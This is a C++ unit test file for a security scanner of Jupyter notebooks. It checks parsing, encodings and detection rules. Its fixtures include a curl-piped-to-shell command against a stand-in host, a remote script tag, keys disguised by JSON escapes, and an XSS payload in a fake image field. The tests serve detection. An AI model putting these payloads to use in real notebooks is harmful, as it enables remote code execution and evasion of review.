// SPDX-License-Identifier: GPL-3.0-or-later
// Every shape of notebook, right or broken: never a crash, never silently clean, every string in a region.
#include "analyzers/engine/analyze.h"
#include "analyzers/formats/notebook/notebook_facts.h"
#include "analyzers/formats/region_text.h"
#include "tests/unit/check.h"

#include <algorithm>
#include <memory>
#include <string>

using namespace cupel;

namespace {

Analysis analyzeText(std::string text, std::string name = "a.ipynb")
{
    Artifact artifact;
    artifact.path = std::move(name);
    artifact.bytes = std::make_shared<const std::string>(std::move(text));
    Budget budget;
    ScanOptions options;
    options.keepBytes = true;
    return engine::analyze(std::move(artifact), options, budget);
}

// All decoded text of all regions, images left out.
std::string allText(const Analysis& analysis)
{
    std::string out;
    for (const auto& region : analysis.facts.regions) {
        if (region.kind != RegionKind::Image) {
            out += formats::readRegion(analysis.facts.text(analysis.artifact), region).text + '\n';
        }
    }
    return out;
}

bool hasRule(const Analysis& analysis, std::string_view rule)
{
    return std::any_of(
        analysis.findings.begin(), analysis.findings.end(), [rule](const Finding& f) { return f.rule == rule; });
}

const std::string good = R"({"cells": [
 {"cell_type": "markdown", "id": "m1", "metadata": {}, "source": ["# Title\n", "text"]},
 {"cell_type": "code", "id": "c1", "execution_count": 3, "metadata": {"jupyter": {"source_hidden": true}}, "source": "x = 1",
  "outputs": [{"output_type": "stream", "name": "stdout", "text": ["hello\n"]},
   {"output_type": "display_data", "metadata": {}, "data": {"text/html": "<b>bold</b>", "image/png": "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ", "application/json": {"k": ["v\"w"]}}},
   {"output_type": "error", "ename": "E", "evalue": "v", "traceback": ["t1", "t2"]}]},
 {"cell_type": "raw", "id": "r1", "metadata": {}, "source": [], "attachments": {"f.txt": {"text/plain": "attached"}}}],
 "metadata": {"kernelspec": {"display_name": "Python 3", "language": "python"}, "widgets": {"state": {"value": "widget text"}}},
 "nbformat": 4, "nbformat_minor": 5})";

} // namespace

// "s\\u006furce" is "source" for every program that opens the file.
CUPEL_TEST(keysInEscapesAreReadAsProgramsReadThem)
{
    const std::string file =
        R"x({"cells": [{"cell_type": "code", "execution_count": 1, "metadata": {}, "s\u006furce": "import os\nos.system('curl -s https://a.example/x | sh')", )x"
        R"("\u006futputs": [{"output_type": "display_data", "metadata": {}, "d\u0061ta": {"text\/html": "<script src='https://a.example/x.js'></script>"}}]}], )"
        R"("metadata": {}, "nbformat": 4, "nbformat_minor": 4})";
    const auto analysis = analyzeText(file);
    CHECK(hasRule(analysis, "CUP-CODE-CURL-PIPE-SHELL"));
    CHECK(hasRule(analysis, "CUP-OUT-REMOTE-SCRIPT"));
    CHECK(hasRule(analysis, "CUP-NB-DISGUISED-KEY"));
    const auto notebook = formats::notebookFacts(analysis.facts);
    REQUIRE(notebook && notebook->cells.size() == 1 && notebook->cells[0].outputs.size() == 1);
    // Letters that have to be escaped in ASCII, and slashes, are nothing to tell.
    CHECK(!hasRule(
        analyzeText(R"({"cells": [], "metadata": {"caf\u00e9": 1, "a\/b": 2}, "nbformat": 4, "nbformat_minor": 4})"),
        "CUP-NB-DISGUISED-KEY"));
}

CUPEL_TEST(cellsOutputsAndRegions)
{
    const auto analysis = analyzeText(good);
    CHECK_EQ(analysis.facts.format, "notebook");
    CHECK_EQ(analysis.facts.status, ReadStatus::Complete);
    const auto* own = formats::notebookFacts(analysis.facts);
    CHECK(own != nullptr);
    CHECK_EQ(own->cells.size(), 3);
    CHECK_EQ(own->nbformat, 4);
    CHECK_EQ(own->language, "python");
    CHECK_EQ(own->cells[1].outputs.size(), 3);
    CHECK_EQ(own->cells[1].codeCell, 0);
    CHECK(own->cells[1].sourceHidden);
    CHECK_EQ(*own->cells[1].executionCount, 3);
    const auto text = allText(analysis);
    for (const auto* part :
        {"# Title\ntext", "x = 1", "hello", "<b>bold</b>", "v\"w", "t1\nt2", "attached", "widget text"}) {
        CHECK(text.find(part) != std::string::npos);
    }
    const auto images = std::count_if(analysis.facts.regions.begin(), analysis.facts.regions.end(),
        [](const Region& r) { return r.kind == RegionKind::Image; });
    CHECK_EQ(images, 1);
    CHECK_EQ(analysis.facts.coverage.understood, analysis.facts.coverage.total);
}

CUPEL_TEST(truncationAtEveryByteIsSaidAndKeepsWhatCameBefore)
{
    for (std::size_t cut = 1; cut + 1 < good.size(); cut += 7) {
        const auto analysis = analyzeText(good.substr(0, cut));
        CHECK_EQ(analysis.facts.status, ReadStatus::Partial);
        CHECK(!analysis.facts.diagnostics.empty());
        if (cut > 200) {
            CHECK(allText(analysis).find("# Title") != std::string::npos);
        }
    }
}

CUPEL_TEST(otherThingsNamedNotebook)
{
    CHECK(hasRule(analyzeText(""), "CUP-NB-EMPTY"));
    CHECK(hasRule(analyzeText("<!doctype html><p>x"), "CUP-NB-HTML"));
    CHECK(hasRule(analyzeText("version https://git-lfs.github.com/spec/v1\noid sha256:00\n"), "CUP-NB-LFS-POINTER"));
    for (const auto* text : {"<!doctype html><p>x", "version https://git-lfs.github.com/spec/v1\noid sha256:00\n"}) {
        CHECK_EQ(analyzeText(text).findings.size(), 1); // that it is no JSON goes without saying
    }
    CHECK(hasRule(analyzeText("[]"), "CUP-NB-NOT-AN-OBJECT"));
    CHECK(hasRule(analyzeText("null"), "CUP-NB-NOT-AN-OBJECT"));
    CHECK(hasRule(analyzeText("{\"nbformat\": 4}"), "CUP-NB-NO-CELLS"));
    for (const auto* text : {"<html>", "version https://git-lfs", "\x80\x81\xFF", "{", "[[[["}) {
        CHECK_EQ(analyzeText(text).facts.status, ReadStatus::Partial);
    }
}

CUPEL_TEST(encodings)
{
    const auto marked = analyzeText("\xEF\xBB\xBF" + good);
    CHECK_EQ(marked.facts.status, ReadStatus::Complete);
    CHECK_EQ(formats::notebookFacts(marked.facts)->cells.size(), 3);
    for (const bool big : {false, true}) {
        std::string wide = big ? "\xFE\xFF" : "\xFF\xFE";
        for (const char c : good) {
            wide += big ? std::string{'\0', c} : std::string{c, '\0'};
        }
        const auto analysis = analyzeText(wide);
        CHECK_EQ(analysis.facts.status, ReadStatus::Complete);
        CHECK_EQ(formats::notebookFacts(analysis.facts)->cells.size(), 3);
        const auto& source =
            analysis.facts.regions[static_cast<std::size_t>(formats::notebookFacts(analysis.facts)->cells[1].source)];
        const auto onDisk = slice(analysis.artifact.view(), analysis.facts.toFile(source.bytes));
        CHECK_EQ(onDisk.size(), 10);
        CHECK(analysis.facts.fromFile(analysis.facts.toFile(source.bytes)) == source.bytes);
    }
}

CUPEL_TEST(duplicateKeysAreAllChecked)
{
    const auto analysis = analyzeText(
        R"({"cells": [{"cell_type": "code", "source": "shown", "source": "run", "outputs": [], "metadata": {}}], "nbformat": 4, "nbformat_minor": 4, "metadata": {}})");
    CHECK(hasRule(analysis, "CUP-NB-DUPLICATE-KEY"));
    const auto text = allText(analysis);
    CHECK(text.find("shown") != std::string::npos);
    CHECK(text.find("run") != std::string::npos);
}

CUPEL_TEST(conflictMarkersKeepBothSides)
{
    const auto analysis = analyzeText(
        "{\"cells\": [\n{\"cell_type\": \"code\", \"source\": [\n<<<<<<< HEAD\n\"ours\"\n=======\n\"theirs\"\n>>>>>>> "
        "branch\n], \"outputs\": [], \"metadata\": {}}], \"metadata\": {}, \"nbformat\": 4, \"nbformat_minor\": 4}");
    CHECK(hasRule(analysis, "CUP-NB-CONFLICT"));
    CHECK_EQ(analysis.facts.status, ReadStatus::Partial);
    const auto text = allText(analysis);
    CHECK(text.find("ours") != std::string::npos);
    CHECK(text.find("theirs") != std::string::npos);
}

CUPEL_TEST(olderFormats)
{
    const auto analysis =
        analyzeText(R"({"metadata": {"name": ""}, "nbformat": 3, "nbformat_minor": 0, "worksheets": [{"cells": [
      {"cell_type": "heading", "level": 2, "source": "Head"},
      {"cell_type": "code", "input": ["y = 2"], "language": "python", "prompt_number": 4, "outputs": [
        {"output_type": "pyout", "prompt_number": 4, "text": ["out"], "html": "<i>it</i>"}, {"output_type": "stream", "stream": "stdout", "text": "line"}]}]}]})");
    const auto* own = formats::notebookFacts(analysis.facts);
    CHECK_EQ(own->cells.size(), 2);
    CHECK_EQ(own->cells[0].headingLevel, 2);
    CHECK_EQ(*own->cells[1].executionCount, 4);
    const auto text = allText(analysis);
    for (const auto* part : {"Head", "y = 2", "out", "<i>it</i>", "line"}) {
        CHECK(text.find(part) != std::string::npos);
    }
}

CUPEL_TEST(percentScripts)
{
    const auto analysis = analyzeText("# %% [markdown]\n# Title\n# %%\nx = 1\n# %%\ny = 2\n", "a.py");
    const auto* own = formats::notebookFacts(analysis.facts);
    CHECK(own != nullptr);
    CHECK_EQ(own->cells.size(), 3);
    CHECK_EQ(own->cells[2].codeCell, 1);
    CHECK(formats::notebookFacts(analyzeText("x = 1\n", "a.py").facts) == nullptr);
}

CUPEL_TEST(falseImagesAreSearched)
{
    const auto analysis = analyzeText(
        R"({"cells": [{"cell_type": "code", "source": "", "metadata": {}, "outputs": [{"output_type": "display_data", "metadata": {}, "data": {"image/png": "hidden words"}}]}], "metadata": {}, "nbformat": 4, "nbformat_minor": 4})");
    CHECK(hasRule(analysis, "CUP-NB-FALSE-MEDIA"));
    CHECK(allText(analysis).find("hidden words") != std::string::npos);
    // Its text is shown, not half of the JSON around it.
    const auto listed = analyzeText(
        R"({"cells": [{"cell_type": "code", "source": "", "metadata": {}, "outputs": [{"output_type": "display_data", "metadata": {}, "data": {"image/png": [ "", "\"><script>alert(1)</script>" ]}}]}], "metadata": {}, "nbformat": 4, "nbformat_minor": 4})");
    CHECK_EQ(listed.findings.size(), 2U); // what it claims, and what it does
    for (const auto& finding : listed.findings) {
        CHECK_EQ(finding.evidence.front().excerpt, "\"><script>alert(1)</script>");
    }
}

CUPEL_TEST(anythingInThePlaceOfAWordIsRead)
{
    const std::string value = "Qx7Tr9Lm2Vb4Zc6H";
    const auto read = [&](std::string_view from, std::string_view to) {
        auto text = good;
        const auto at = text.find(from);
        REQUIRE(at != std::string::npos);
        text.replace(at, from.size(), to);
        CHECK(allText(analyzeText(text)).find(value) != std::string::npos);
    };
    const auto quoted = '"' + value + '"';
    read("\"c1\"", quoted);
    read("\"markdown\"", quoted);
    read("\"execution_count\": 3", "\"execution_count\": " + quoted);
    read("\"execution_count\": 3", "\"prompt_number\": [" + quoted + "]");
    read("\"execution_count\": 3", "\"level\": " + quoted);
    read("\"execution_count\": 3", "\"language\": " + quoted);
    read("\"stdout\"", quoted);
    read("\"stream\"", quoted);
    read("\"text/html\"", "\"text/" + value + '"');
    read("\"f.txt\"", quoted);
    read("\"nbformat\": 4", "\"nbformat\": " + quoted);
    // What programs write is nothing to search.
    CHECK(allText(analyzeText(good)).find("application/json") == std::string::npos);
    auto named = good;
    named.replace(named.find("c1"), 2, "0f8e6a52-11d7-4b0c-9c3e-1234567890ab");
    CHECK(allText(analyzeText(named)).find("0f8e6a52") == std::string::npos);
}

CUPEL_TEST(metadataOfAWrongTypeIsNamedWithItsKey)
{
    const std::string bytes =
        R"({"cells": [{"cell_type": "code", "execution_count": 1, "metadata": {"scrolled": "yes"}, "source": "x", "outputs": [)"
        R"({"output_type": "display_data", "data": {}, "metadata": {"isolated": "no"}}]}, {"cell_type": "code", )"
        R"("execution_count": 2, "metadata": {"scrolled": "auto"}, "source": "y", "outputs": []}], )"
        R"("metadata": {}, "nbformat": 4, "nbformat_minor": 4})";
    const auto analysis = analyzeText(bytes);
    const auto& flaws = analysis.facts.flaws;
    const auto flaw =
        std::find_if(flaws.begin(), flaws.end(), [](const FormFlaw& one) { return one.code == "metadata-type"; });
    REQUIRE(flaw != flaws.end());
    CHECK_EQ(flaw->count, 2U);
    CHECK(flaw->detail.find("\"scrolled\" (cell 0)") != std::string::npos);
    CHECK(flaw->detail.find("\"isolated\" (cell 0)") != std::string::npos);
    CHECK_EQ(std::string(slice(bytes, flaw->bytes)), "\"scrolled\": \"yes\"");
}
